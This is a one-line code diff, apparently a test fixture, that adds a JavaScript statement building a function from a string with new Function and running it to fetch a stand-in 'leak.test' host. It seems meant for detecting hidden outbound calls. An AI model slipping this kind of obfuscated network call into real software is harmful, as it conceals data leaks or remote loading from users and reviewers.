@@ -1,0 +1,1 @@
+new Function("fetch('https://js-new-function.leak.test/')")()
